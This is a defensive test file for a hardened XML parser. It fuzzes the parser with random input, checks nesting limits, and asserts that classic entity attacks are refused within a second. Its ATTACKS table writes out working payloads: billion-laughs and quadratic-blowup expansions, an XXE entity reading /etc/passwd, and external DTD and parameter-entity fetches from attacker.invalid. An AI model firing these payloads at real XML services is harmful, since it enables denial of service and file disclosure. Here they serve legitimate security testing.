"""The hardened XML parser (vdx/xmlsafe.py): any input yields an element or InvalidXml, fast.

Every SOAP message, identifier and configuration file passes through xmlsafe.parse(), so it is
the one place where hostile XML must be stopped: no exception other than XRoadError may escape,
nesting beyond the limit is refused, and the classic entity attacks (OWASP XML cheat sheet) are
refused within a second, without expanding or fetching anything.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vdx import xmlsafe
from vdx.errors import Code, XRoadError
from vdx.xmlsafe import XmlLimits

_TOKENS = [
    "<a>", "</a>", "<b x='1'>", "</b>", "<c/>", "text", "&amp;", "&x;", "&#0;", "&#x10FFFF;",
    "<!DOCTYPE a>", "<!DOCTYPE a [<!ENTITY x 'y'>]>", "<?xml version='1.0'?>", "<![CDATA[z]]>",
    "<!-- c -->", "<?pi d?>", "<n:a xmlns:n='urn:n'>", "</n:a>", "\ufeff", "\x00",
]  # fmt: skip
_xml_soup = st.lists(st.sampled_from(_TOKENS) | st.text(max_size=5), max_size=30).map("".join)
_encodings = st.sampled_from(["utf-8", "utf-16", "latin-1"])
documents = st.binary() | st.builds(
    lambda text, enc: text.encode(enc, "replace"), _xml_soup, _encodings
)


def _is_element_or_invalid_xml(data: bytes, encoding: str | None = None) -> None:
    try:
        root = xmlsafe.parse(data, encoding=encoding)
    except XRoadError as exc:
        code = exc.code
    else:
        assert isinstance(root.tag, str)
        return
    assert code is Code.INVALID_XML


@given(documents)
def test_arbitrary_bytes_give_an_element_or_invalid_xml(data: bytes) -> None:
    _is_element_or_invalid_xml(data)


@given(documents, st.text(max_size=12))
@example(b"<a/>", "\x00")  # once raised ValueError from lxml's XMLParser
def test_arbitrary_declared_charset_gives_an_element_or_invalid_xml(
    data: bytes, encoding: str
) -> None:
    _is_element_or_invalid_xml(data, encoding)


def _nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


@given(st.integers(1, 60), st.integers(1, 60))
def test_nesting_deeper_than_the_limit_is_refused(limit: int, extra: int) -> None:
    limits = XmlLimits(max_depth=limit)
    xmlsafe.parse(_nested(limit), limits)  # exactly at the limit is fine
    with pytest.raises(XRoadError) as caught:
        xmlsafe.parse(_nested(limit + extra), limits)
    assert caught.value.code is Code.INVALID_XML


@given(st.integers(xmlsafe.DEFAULT_MAX_DEPTH + 1, 1000))
def test_nesting_deeper_than_the_default_limit_is_refused(depth: int) -> None:
    with pytest.raises(XRoadError) as caught:
        xmlsafe.parse(_nested(depth))
    assert caught.value.code is Code.INVALID_XML


# ------------------------------------------------------------ explicit attack documents

_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">' for n in range(10)
)
_BIG = "A" * 100_000
ATTACKS = {
    "billion-laughs": f"<!DOCTYPE lolz [{_LAUGHS}]><lolz>&lol9;</lolz>",
    "quadratic-blowup": f'<!DOCTYPE q [<!ENTITY a "{_BIG}">]><q>{"&a;" * 10_000}</q>',
    "xxe-file": '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>',
    "external-dtd-http": '<!DOCTYPE f SYSTEM "http://attacker.invalid/evil.dtd"><f/>',
    "external-dtd-public": '<!DOCTYPE f PUBLIC "-//X//Y" "http://attacker.invalid/e.dtd"><f/>',
    "parameter-entity-external": (
        '<!DOCTYPE f [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><f/>'
    ),
    "parameter-entity-internal": (
        "<!DOCTYPE f [<!ENTITY % p \"<!ENTITY b 'boom'>\"> %p;]><f>&b;</f>"
    ),
}


@pytest.mark.parametrize("document", ATTACKS.values(), ids=ATTACKS.keys())
def test_entity_attacks_are_refused_within_a_second(document: str) -> None:
    data = f'<?xml version="1.0"?>\n{document}'.encode()
    started = time.perf_counter()
    with pytest.raises(XRoadError) as caught:
        xmlsafe.parse(data)
    elapsed = time.perf_counter() - started
    assert caught.value.code is Code.INVALID_XML
    assert elapsed < 1.0, f"refusal took {elapsed:.3f} s"


def test_refused_xxe_leaks_nothing_into_the_message() -> None:
    data = ATTACKS["xxe-file"].encode()
    with pytest.raises(XRoadError) as caught:
        xmlsafe.parse(data)
    assert "root:" not in caught.value.message
